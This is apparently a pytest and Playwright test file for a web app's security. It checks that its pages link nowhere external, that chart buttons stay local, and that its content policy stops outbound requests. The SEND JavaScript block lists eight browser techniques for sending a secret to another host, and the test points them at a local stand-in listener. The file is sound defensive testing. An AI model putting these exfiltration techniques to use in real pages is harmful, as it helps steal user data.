"""No page sends anything elsewhere or leads there: not by a link, a chart's button, a request or a
form.
"""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import pytest
from playwright.sync_api import Browser, Page, StorageState

from tests.journeys.conftest import foreign, watched
from tests.journeys.stage import Site
from tests.journeys.steps import judged_run, until

NAMED = (
    "",
    "experiments/new/",
    "markets/",
    "markets/import/",
    "markets/together/",
    "tokens/",
    "proof/",
    "terms/",
    "admin/",
    "api/v1/docs",
)
# whatever a page names as an address, made absolute by the browser
ADDRESSES = """() => ["href", "src", "action", "formAction", "data", "poster", "ping"]
    .flatMap((name) =>
        [...document.querySelectorAll(`[${name.toLowerCase()}]`)].map((node) => node[name]))
    .filter((value) => typeof value === "string" && value)"""
BUTTONS = "[...document.querySelectorAll('.modebar-btn')].map((button) => button.dataset.title)"
PICTURE = "Download plot as a PNG"
AT_HOME = {
    PICTURE,
    "Zoom",
    "Pan",
    "Reset axes",
    "Toggle Spike Lines",
    "Show closest data on hover",
    "Compare data on hover",
}
SEND = """async ([address, secret]) => {
    const make = (kind, more) => Object.assign(document.createElement(kind), more);
    const attempts = [
        () => fetch(`${address}/fetch?${secret}`, { mode: "no-cors" }),
        () => navigator.sendBeacon(`${address}/beacon`, secret),
        () => new WebSocket(`${address.replace("http", "ws")}/socket?${secret}`),
        () => new EventSource(`${address}/events?${secret}`),
        () => { new Image().src = `${address}/image?${secret}`; },
        () => document.body.append(make("iframe", { src: `${address}/frame?${secret}` })),
        () => document.body.append(make("script", { src: `${address}/script?${secret}` })),
        () => {
            const form = make("form", { action: `${address}/form`, method: "post" });
            document.body.append(form);
            form.submit();
        },
    ];
    for (const attempt of attempts) { try { await attempt(); } catch { /* as it should be */ } }
    await new Promise((done) => setTimeout(done, 1000));
}"""


@contextmanager
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """Another server: its address, and what it was sent."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    line, _ = server.accept()
                except OSError:
                    return
                with line, suppress(TimeoutError):
                    line.settimeout(2)
                    heard.append(line.recv(200))

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


@pytest.fixture(scope="module")
def judged(browser: Browser, site: Site, session: StorageState) -> str:
    """Address of an experiment with all its charts and a champion."""
    with watched(browser, site, storage_state=session) as page:
        return judged_run(page, site, "At home")


def test_no_page_names_an_address_elsewhere_and_no_chart_can_be_sent(
    admin: Page, site: Site, judged: str
):
    page = admin
    page.goto(site.address + "markets/")
    market = page.evaluate(
        "[...document.links].map((link) => link.href).find((address) =>"
        " /markets[/][0-9]+[/]$/.test(address))"
    )
    charts: dict[str, tuple[str, ...]] = {
        **{site.address + name: () for name in NAMED},
        judged: (),
        f"{judged}population/": ("#curves", "#heatmap"),
        f"{judged}lineage/": ("#lineage",),
        **{f"{judged}{tab}/": () for tab in ("agent", "money", "evidence", "settings")},
        f"{judged}agents/1/": ("#life",),
        f"{judged}champion/": (),
        market: ("#price",),
    }
    for address, drawn in charts.items():
        answer = page.goto(address, wait_until="networkidle")
        for chart in drawn:
            page.wait_for_selector(f"{chart} .modebar-btn", state="attached")

        assert "'self'" in answer.headers["content-security-policy"], address
        assert [
            found for found in page.evaluate(ADDRESSES) if foreign(found, site.address)
        ] == [], address
        assert set(page.evaluate(BUTTONS)) <= AT_HOME, address


def test_a_chart_becomes_a_picture_and_none_of_its_buttons_opens_anything(
    admin: Page, site: Site, judged: str
):
    page, opened = admin, []
    page.context.on("page", lambda other: opened.append(other.url))
    page.goto(f"{judged}population/")
    until(lambda: page.locator("#curves .modebar-btn").count(), "the curves")
    page.hover("#curves")

    with page.expect_download() as picture:
        page.click(f"#curves .modebar-btn[data-title='{PICTURE}']")
    for button in page.locator("#curves .modebar-btn").all():
        button.click()

    assert picture.value.path().read_bytes().startswith(b"\x89PNG")
    page.wait_for_timeout(500)
    assert opened == []
    assert page.url.startswith(judged)


def test_a_script_on_our_page_could_not_send_a_secret_elsewhere(browser: Browser, site: Site):
    page = browser.new_page()
    with listener() as (address, heard):
        page.goto(site.address + "login/")

        page.evaluate(SEND, [address, "secret"])

        # a browser may knock on spec, without a word
        assert [words for words in heard if words] == []
    page.close()
